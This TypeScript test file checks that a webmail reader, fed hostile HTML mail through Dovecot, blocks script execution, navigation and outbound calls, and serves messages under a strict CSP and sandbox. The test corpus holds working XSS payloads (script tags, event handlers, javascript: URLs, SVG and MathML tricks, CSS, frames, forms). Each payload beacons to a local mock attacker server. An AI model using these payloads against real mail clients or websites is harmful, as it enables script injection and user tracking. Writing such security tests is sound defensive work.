import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDovecot, type DovecotInstance } from '../harness/index.ts';
import { launchBrowser, screenshot } from '../support/browser.ts';
import { type MailEnv, startMailEnv } from '../support/mail-env.ts';
import { buildMessage } from '../support/message.ts';

// Hostile HTML mail, imported from Dovecot and opened in the reader in Chromium. Every payload tries to run
// script (setting `__pwned` on the top window, marking the document, calling home to a local "attacker"
// server), to navigate, to submit or to load something. Nothing may run, navigate or reach the attacker;
// the tracking pixel loads only after "Show images", and then nothing else does.

const USER = 'target@example.test';
const PASSWORD = 'mailbox secret 42';

// Each payload's way to say "I ran": all three are checked.
const ran = (n: string, base: string) =>
  `top.__pwned='${n}';document.documentElement.setAttribute('data-pwned','${n}');new Image().src='${base}/pwned-${n}'`;

function corpus(base: string): Array<{ subject: string; html: string }> {
  return [
    {
      subject: 'H01 script tags',
      html: `<p>Invoice attached.</p><script>${ran('script', base)}</script><SCRIPT SRC="${base}/pwned-script-src.js"></SCRIPT><scr<script>ipt>${ran('split', base)}</script>`,
    },
    {
      subject: 'H02 event handlers',
      html: `<p>Hello</p><img src="x" onerror="${ran('onerror', base)}"><body onload="${ran('onload', base)}"><div onmouseover="${ran('hover', base)}" style="width:100%;height:300px">hover here</div><p onclick="${ran('click', base)}">click here</p>`,
    },
    {
      subject: 'H03 javascript and data URLs',
      html: `<p><a href="javascript:${ran('jslink', base)}">js link</a></p><p><a href="JaVaScRiPt&colon;${ran('jslink2', base)}">js link 2</a></p><p><a href="data:text/html,<script>${ran('datalink', base)}</script>">data link</a></p><p><a href="vbscript:msgbox(1)">vb link</a></p><img src="javascript:${ran('jsimg', base)}">`,
    },
    {
      subject: 'H04 CSS payloads',
      html: `<div style="background:url(javascript:${ran('cssjs', base)})">css one</div><div style="width:expression(${ran('expr', base)})">css two</div><div style="background-image:url('${base}/pwned-cssurl')">css three</div><div style="behavior:url(${base}/pwned-htc)">css four</div><style>@import url(${base}/pwned-import); body{background:url(${base}/pwned-style)}</style><link rel="stylesheet" href="${base}/pwned-link.css">`,
    },
    {
      subject: 'H05 SVG',
      html: `<svg onload="${ran('svgload', base)}"><script>${ran('svgscript', base)}</script><image href="${base}/pwned-svgimage"/><a xlink:href="javascript:${ran('svglink', base)}"><text x="10" y="20">svg link</text></a><animate onbegin="${ran('svganim', base)}" attributeName="x" dur="1s"/></svg><img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${ran('svgdata', base)}"/>`).toString('base64')}">`,
    },
    {
      subject: 'H06 MathML',
      html: `<math><mtext><table><mglyph><style><img src=x onerror="${ran('mxss', base)}"></style></mglyph></table></mtext></math><math href="javascript:${ran('mathlink', base)}"><mi>click math</mi></math><math><maction actiontype="statusline" xlink:href="javascript:${ran('maction', base)}">m</maction></math>`,
    },
    {
      subject: 'H07 meta refresh',
      html: `<meta http-equiv="refresh" content="0;url=${base}/pwned-refresh"><meta http-equiv="Set-Cookie" content="pwned=1"><p>Refreshing…</p>`,
    },
    {
      subject: 'H08 forms',
      html: `<form action="${base}/pwned-form" method="post"><input name="password" value="secret"><input type="image" src="${base}/pwned-inputimage"><button formaction="${base}/pwned-formaction">Send form</button><input type="submit" value="Submit form"></form><input autofocus onfocus="${ran('autofocus', base)}">`,
    },
    {
      subject: 'H09 base href',
      html: `<base href="${base}/pwned-base/"><p><a href="relative">relative link</a></p><img src="relative.gif">`,
    },
    {
      subject: 'H10 frames and plugins',
      html: `<iframe src="${base}/pwned-iframe"></iframe><iframe srcdoc="<script>${ran('srcdoc', base)}</script>"></iframe><object data="${base}/pwned-object"></object><embed src="${base}/pwned-embed"><frameset><frame src="${base}/pwned-frame"></frameset><applet code="x" codebase="${base}/pwned-applet"></applet><p>frames</p>`,
    },
    {
      subject: 'H11 media and attributes',
      html: `<video poster="${base}/pwned-poster" src="${base}/pwned-video"></video><audio src="${base}/pwned-audio" autoplay></audio><table background="${base}/pwned-tablebg"><tr><td background="${base}/pwned-tdbg">cell</td></tr></table><img srcset="${base}/pwned-srcset 1x"><img src="//127.0.0.1/pwned-protocol-relative"><a ping="${base}/pwned-ping" href="https://example.com/">ping link</a>`,
    },
    // The tracker: blocked until "Show images"; with images shown, the pixel loads and still nothing else does.
    {
      subject: 'H12 tracking pixel',
      html: `<p>Monthly newsletter</p><img src="${base}/pixel.gif?u=1" width="1" height="1" alt=""><div style="background:url(${base}/pwned-pixel-css)">x</div><img srcset="${base}/pwned-pixel-srcset 2x"><script>${ran('pixelscript', base)}</script>`,
    },
  ];
}

let browser: Browser;
let dovecot: DovecotInstance;
let attacker: http.Server;
let base: string;
const hits: string[] = [];

beforeAll(async () => {
  attacker = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    if (req.url?.startsWith('/pixel.gif')) {
      res.writeHead(200, { 'content-type': 'image/gif', 'cache-control': 'no-store' });
      res.end(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'));
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<script>${'top.__pwned="served"'}</script>`);
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  [browser, dovecot] = await Promise.all([launchBrowser(), startDovecot({ tls: 'self-signed' })]);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await dovecot?.stop();
  await new Promise((resolve) => attacker?.close(resolve));
});

describe('hostile HTML mail in the reader', () => {
  let env: MailEnv;
  let page: Page;
  let inboxUrl: string;
  const dialogs: string[] = [];
  const popups: string[] = [];
  const topNavigations: string[] = [];

  beforeAll(async () => {
    const messages = corpus(base);
    const t0 = Date.now() - 3600_000;
    const raw = await Promise.all(
      messages.map((m, i) =>
        buildMessage({
          from: `Mallory <mallory${i}@evil.example>`,
          subject: m.subject,
          date: new Date(t0 + i * 60_000),
          messageId: `<hostile-${i}@evil.example>`,
          html: m.html,
        }),
      ),
    );
    env = await startMailEnv({ browser, dovecot, locale: 'en-US', user: USER, password: PASSWORD, messages: raw });
    page = env.page;
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    env.context.on('page', (p) => popups.push(p.url()));
    page.on('framenavigated', (f) => {
      if (f === page.mainFrame()) topNavigations.push(f.url());
    });
    await page.goto('/inbox');
    inboxUrl = page.url();
    await page
      .getByTestId('message-row')
      .nth(messages.length - 1)
      .waitFor();
    topNavigations.length = 0;
  }, 300_000);

  afterAll(async () => env?.stop());

  const messageFrame = async (): Promise<Frame> => {
    const handle = await page.getByTestId('message-html').elementHandle();
    const frame = await handle!.contentFrame();
    await frame!.waitForLoadState('load');
    return frame!;
  };

  async function assertNothingRan(subject: string): Promise<void> {
    expect(dialogs, subject).toEqual([]);
    expect(popups, subject).toEqual([]);
    expect(topNavigations, subject).toEqual([]);
    expect(page.url(), subject).toBe(inboxUrl);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), subject).toBeUndefined();
    expect(await page.evaluate(() => document.documentElement.getAttribute('data-pwned')), subject).toBeNull();
    const frame = await messageFrame();
    expect(frame.url(), subject).toMatch(/\/api\/v1\/messages\/[0-9a-f-]{36}\/html\?images=0$/);
    expect(await frame.locator('[data-pwned]').count(), subject).toBe(0);
    expect(
      await frame
        .locator(
          'script, iframe, object, embed, applet, frame, frameset, form, input, button, svg, math, body meta, base, link, body style, video, audio',
        )
        .count(),
      subject,
    ).toBe(0);
    // Links keep only absolute web, mail and phone addresses.
    for (const href of await frame.locator('a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? '')))
      expect(href, subject).toMatch(/^(https?:|mailto:|tel:)/i);
    expect(hits, subject).toEqual([]);
  }

  it('serves the message document with a strict CSP and a sandbox', async () => {
    const first = await page.getByTestId('message-row').first().getAttribute('data-message-id');
    const res = await env.context.request.get(new URL(`/api/v1/messages/${first}/html?images=0`, env.server.url).toString());
    expect(res.status()).toBe(200);
    const csp = res.headers()['content-security-policy']!;
    expect(csp).toContain("default-src 'none'");
    expect(csp).toMatch(/img-src data:;/);
    expect(csp).toContain('sandbox allow-popups allow-popups-to-escape-sandbox');
    expect(csp).not.toContain('allow-scripts');
    expect(csp).not.toContain('allow-same-origin');
    expect(res.headers()['x-content-type-options']).toBe('nosniff');
    const withImages = await env.context.request.get(new URL(`/api/v1/messages/${first}/html?images=1`, env.server.url).toString());
    expect(withImages.headers()['content-security-policy']).toMatch(/img-src data: https: http:;/);
  });

  it.each(corpus('').map((m) => m.subject))('opens "%s" without anything running, navigating or calling home', async (subject) => {
    const row = page.getByTestId('message-row').filter({ has: page.getByText(subject, { exact: true }) });
    await row.getByTestId('row-open').click();
    await page.getByTestId('thread-subject').getByText(subject, { exact: true }).waitFor();
    const frame = await messageFrame();
    // Give timers, refreshes, autofocus and lazy loads their chance; click whatever is left of the bait.
    await frame.locator('body').hover();
    for (const text of [
      'js link',
      'js link 2',
      'data link',
      'vb link',
      'svg link',
      'click math',
      'click here',
      'relative link',
      'Send form',
      'Submit form',
    ]) {
      const target = frame.getByText(text, { exact: true });
      if (await target.count())
        await target
          .first()
          .click({ timeout: 2_000 })
          .catch(() => undefined);
    }
    await page.waitForTimeout(300);
    await assertNothingRan(subject);
    await screenshot(page, `hostile-${subject.slice(0, 3)}`);
  });

  it('opens links in a new tab without an opener', async () => {
    await page
      .getByTestId('message-row')
      .filter({ has: page.getByText('H11 media and attributes', { exact: true }) })
      .getByTestId('row-open')
      .click();
    const link = (await messageFrame()).getByText('ping link', { exact: true });
    await expect(link.getAttribute('target')).resolves.toBe('_blank');
    await expect(link.getAttribute('rel')).resolves.toBe('noopener noreferrer');
    expect(await link.getAttribute('ping')).toBeNull();
  });

  it('loads the tracking pixel only after "Show images", and nothing else even then', async () => {
    await page
      .getByTestId('message-row')
      .filter({ has: page.getByText('H12 tracking pixel', { exact: true }) })
      .getByTestId('row-open')
      .click();
    await page.getByTestId('images-blocked').waitFor();
    await page.waitForTimeout(500);
    expect(hits).toEqual([]);
    await screenshot(page, 'hostile-images-blocked');
    await page.getByTestId('show-images').click();
    await page.locator('[data-testid="message-html"][data-images="1"]').waitFor();
    await expect.poll(() => hits.length, { timeout: 10_000 }).toBeGreaterThan(0);
    await page.waitForTimeout(500);
    expect(
      hits.every((h) => h.startsWith('/pixel.gif')),
      hits.join(', '),
    ).toBe(true);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(popups).toEqual([]);
    expect(topNavigations).toEqual([]);
  });
});
